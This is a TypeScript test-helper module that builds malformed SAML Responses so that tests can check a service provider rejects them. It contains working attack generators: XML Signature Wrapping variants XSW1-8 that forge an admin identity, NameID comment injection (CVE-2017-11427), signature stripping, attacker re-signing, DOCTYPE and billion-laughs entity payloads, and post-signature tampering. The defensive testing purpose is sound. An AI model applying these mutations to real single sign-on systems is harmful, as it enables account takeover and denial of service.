// Mutations of a valid signed Response, for negative tests: every function takes XML and returns
// new XML, and the SP under test must reject each result. The XSW variants follow the taxonomy of
// "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al., USENIX Security 2012) as SAML
// Raider implements it: XSW1-2 need a signed Response, XSW3-8 a signed Assertion.
import { keys } from './keys.js';
import { buildSamlResponse, type ResponseOptions } from './response.js';
import { NS, parseXml, serializeXml } from './xml.js';

/** The identity the evil assertions claim. */
export const EVIL_NAME_ID = 'admin@victim.test';
export interface EvilOptions {
  nameId?: string;
}

function children(parent: Element, ns: string, local: string): Element[] {
  return Array.from(parent.childNodes).filter((n): n is Element => n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === local);
}

function find(parent: Document | Element, ns: string, local: string): Element {
  const found = parent.getElementsByTagNameNS(ns, local).item(0);
  if (!found) throw new Error(`no ${local} element in the XML`);
  return found;
}

/** The element's own enveloped Signature (not one nested deeper), which the variant needs. */
function ownSignature(element: Element, variant: string): Element {
  const signature = children(element, NS.ds, 'Signature')[0];
  if (!signature) throw new Error(`${variant} needs a signed ${element.localName}`);
  return signature;
}

/** A deep copy without its own Signature: the "original" that the signature still matches. */
function unsignedClone(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  for (const signature of children(copy, NS.ds, 'Signature')) copy.removeChild(signature);
  return copy;
}

function setText(element: Element, text: string): void {
  while (element.firstChild) element.removeChild(element.firstChild);
  element.appendChild(element.ownerDocument.createTextNode(text));
}

/** Claims another identity: every NameID, and any attribute value that repeated the old NameID. */
function makeEvil(element: Element, evil: EvilOptions = {}): void {
  const nameId = evil.nameId ?? EVIL_NAME_ID;
  for (const node of Array.from(element.getElementsByTagNameNS(NS.saml, 'NameID'))) {
    const old = node.textContent;
    setText(node, nameId);
    for (const value of Array.from(element.getElementsByTagNameNS(NS.saml, 'AttributeValue'))) if (value.textContent === old) setText(value, nameId);
  }
}

function mutate(xml: string, change: (doc: Document, root: Element) => void): string {
  const doc = parseXml(xml);
  change(doc, doc.documentElement);
  return serializeXml(doc);
}

const qualified = (like: Element, local: string) => (like.prefix ? `${like.prefix}:${local}` : local);

/** XSW1: the evil Response is the root; the original signed Response hides inside its Signature. */
export function xsw1(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (_doc, root) => {
    const signature = ownSignature(root, 'xsw1');
    const original = unsignedClone(root);
    makeEvil(root, evil);
    root.setAttribute('ID', '_evil_response_ID');
    signature.appendChild(original);
  });
}

/** XSW2: as XSW1, but the original Response sits before the Signature (a detached-signature shape). */
export function xsw2(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (_doc, root) => {
    const signature = ownSignature(root, 'xsw2');
    const original = unsignedClone(root);
    makeEvil(root, evil);
    root.setAttribute('ID', '_evil_response_ID');
    root.insertBefore(original, signature);
  });
}

/** XSW3: an unsigned evil Assertion with its own ID inserted before the signed one. */
export function xsw3(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (doc) => {
    const assertion = find(doc, NS.saml, 'Assertion');
    ownSignature(assertion, 'xsw3');
    const copy = unsignedClone(assertion);
    copy.setAttribute('ID', '_evil_assertion_ID');
    makeEvil(copy, evil);
    assertion.parentNode!.insertBefore(copy, assertion);
  });
}

/** XSW4: the evil Assertion takes the signed one's place and wraps it. */
export function xsw4(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (doc) => {
    const assertion = find(doc, NS.saml, 'Assertion');
    ownSignature(assertion, 'xsw4');
    const copy = unsignedClone(assertion);
    copy.setAttribute('ID', '_evil_assertion_ID');
    makeEvil(copy, evil);
    assertion.parentNode!.replaceChild(copy, assertion);
    copy.appendChild(assertion);
  });
}

/** XSW5: the first Assertion turns evil but keeps the Signature; an unsigned original copy is appended. */
export function xsw5(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (doc, root) => {
    const assertion = find(doc, NS.saml, 'Assertion');
    ownSignature(assertion, 'xsw5');
    const original = unsignedClone(assertion);
    makeEvil(assertion, evil);
    assertion.setAttribute('ID', '_evil_assertion_ID');
    root.appendChild(original);
  });
}

/** XSW6: as XSW5, but the original copy goes inside the evil Assertion's Signature. */
export function xsw6(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (doc) => {
    const assertion = find(doc, NS.saml, 'Assertion');
    const signature = ownSignature(assertion, 'xsw6');
    const original = unsignedClone(assertion);
    makeEvil(assertion, evil);
    assertion.setAttribute('ID', '_evil_assertion_ID');
    signature.appendChild(original);
  });
}

/**
 * XSW7: an unsigned evil copy (same ID) inside samlp:Extensions, which schemas let hold anything.
 * Placed where the schema allows Extensions (before Status), so even a validating SP parses it.
 */
export function xsw7(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (doc, root) => {
    const assertion = find(doc, NS.saml, 'Assertion');
    ownSignature(assertion, 'xsw7');
    const copy = unsignedClone(assertion);
    makeEvil(copy, evil);
    const extensions = doc.createElementNS(NS.samlp, qualified(root, 'Extensions'));
    extensions.appendChild(copy);
    root.insertBefore(extensions, children(root, NS.samlp, 'Status')[0] ?? assertion);
  });
}

/** XSW8: the Assertion turns evil in place (same ID, Signature kept); the original copy hides in a ds:Object. */
export function xsw8(xml: string, evil?: EvilOptions): string {
  return mutate(xml, (doc) => {
    const assertion = find(doc, NS.saml, 'Assertion');
    const signature = ownSignature(assertion, 'xsw8');
    const original = unsignedClone(assertion);
    makeEvil(assertion, evil);
    const object = doc.createElementNS(NS.ds, qualified(signature, 'Object'));
    object.appendChild(original);
    signature.appendChild(object);
  });
}

export const XSW = { xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8 } as const;

/** Removes every ds:Signature, leaving an unsigned message that claims to be the IdP's. */
export function stripSignatures(xml: string): string {
  return mutate(xml, (doc) => {
    for (const signature of Array.from(doc.getElementsByTagNameNS(NS.ds, 'Signature'))) signature.parentNode?.removeChild(signature);
  });
}

/**
 * Splits the NameID text with an empty comment before `at` (a substring or an offset). c14n drops
 * comments, so the signature still verifies; an SP reading only the first text node sees a prefix,
 * e.g. "user@evil.test<!---->.attacker.test" read as user@evil.test (CVE-2017-11427 and kin).
 */
export function injectCommentInNameId(xml: string, at: string | number): string {
  return mutate(xml, (doc) => {
    const nameId = find(doc, NS.saml, 'NameID');
    const text = nameId.textContent ?? '';
    const index = typeof at === 'number' ? at : text.indexOf(at);
    if (index <= 0 || index >= text.length) throw new Error(`cannot split NameID "${text}" at ${JSON.stringify(at)}`);
    setText(nameId, text.slice(0, index));
    nameId.appendChild(doc.createComment(''));
    nameId.appendChild(doc.createTextNode(text.slice(index)));
  });
}

/** A well-formed, validly signed Response, but by keys.attacker and carrying the attacker's own certificate. */
export function resignWithAttackerKey(options: ResponseOptions = {}): string {
  return buildSamlResponse({ ...options, signingKey: keys.attacker.privateKey, signingCert: keys.attacker.certificate });
}

/** Inserts a DOCTYPE (default: a harmless internal entity) before the root; an SP must refuse any DTD. */
export function addDoctype(xml: string, internalSubset = '<!ENTITY probe "doctype-probe">'): string {
  const root = /<([A-Za-z_][\w.:-]*)/.exec(xml.replace(/<\?[\s\S]*?\?>|<!--[\s\S]*?-->/g, (m) => ' '.repeat(m.length)));
  if (!root) throw new Error('no root element');
  return `${xml.slice(0, root.index)}<!DOCTYPE ${root[1]} [${internalSubset}]>${xml.slice(root.index)}`;
}

/** Billion laughs, kept small: `depth` levels of tenfold entities (3 * 10^depth bytes) referenced from the NameID. */
export function entityExpansion(xml: string, depth = 5): string {
  const levels = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= depth; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  const withReference = xml.replace(/(<(?:[\w.-]+:)?NameID\b[^>]*>)[^<]*(<\/)/, `$1&lol${depth};$2`);
  if (withReference === xml) throw new Error('no NameID to reference the entity from');
  return addDoctype(withReference, levels.join(''));
}

/** Grows the message to exactly `bytes` UTF-8 bytes with a comment before the root's end tag (signatures stay valid). */
export function pad(xml: string, bytes: number): string {
  const filler = bytes - Buffer.byteLength(xml, 'utf8') - '<!---->'.length;
  if (filler < 0) throw new RangeError(`XML is already ${Buffer.byteLength(xml, 'utf8')} bytes`);
  const end = xml.lastIndexOf('</');
  return `${xml.slice(0, end)}<!--${'x'.repeat(filler)}-->${xml.slice(end)}`;
}

/** Edits an attribute value after signing (first value of the named attribute, or of the first one). */
export function tamperAttribute(xml: string, change: { name?: string; value?: string } = {}): string {
  return mutate(xml, (doc) => {
    const attributes = Array.from(doc.getElementsByTagNameNS(NS.saml, 'Attribute'));
    const attribute = change.name === undefined ? attributes[0] : attributes.find((a) => a.getAttribute('Name') === change.name);
    if (!attribute) throw new Error(`no attribute ${change.name ?? ''} to tamper with`);
    setText(find(attribute, NS.saml, 'AttributeValue'), change.value ?? EVIL_NAME_ID);
  });
}

/** Edits the NameID after signing. */
export function tamperNameId(xml: string, nameId = EVIL_NAME_ID): string {
  return mutate(xml, (doc) => setText(find(doc, NS.saml, 'NameID'), nameId));
}
